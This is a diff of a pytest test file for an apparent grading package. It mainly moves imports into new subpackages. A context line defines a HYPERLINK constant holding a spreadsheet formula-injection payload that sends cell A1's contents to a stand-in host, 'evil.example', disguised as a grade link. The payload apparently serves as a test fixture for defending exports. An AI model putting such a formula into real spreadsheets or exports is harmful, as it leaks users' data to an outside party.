@@ -9,9 +9,11 @@ import os
 
 import pytest
 
-from grader import batch, classreport, classview, exports, gradebook, report
-from grader.manifest import ClassRules
-from grader.results import CheckResult, SubmissionResult
+from grader import batch
+from grader.config.manifest import ClassRules
+from grader.grading.results import CheckResult, SubmissionResult
+from grader.reports import classreport, classview, report
+from grader.store import exports, gradebook
 from test_reports import Markup
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"see your grade")'
@@ -200,7 +202,7 @@ def test_pages_are_deterministic(pages, tmp_path):
 
 
 def test_provenance_words_cope_with_stops_other_strategies_and_missing_facts():
-    from grader import wording
+    from grader.reports import wording
 
     said = dict(wording.provenance({**PROVENANCE, "stopped_by": "cell_timeout", "sandbox_cpu_seconds": 3.14, "device": "GPU",
                                     "replicas": 2, "strategy": "MirroredStrategy on 2 GPU replica(s)", "training": "full training (base is trainable)"}))
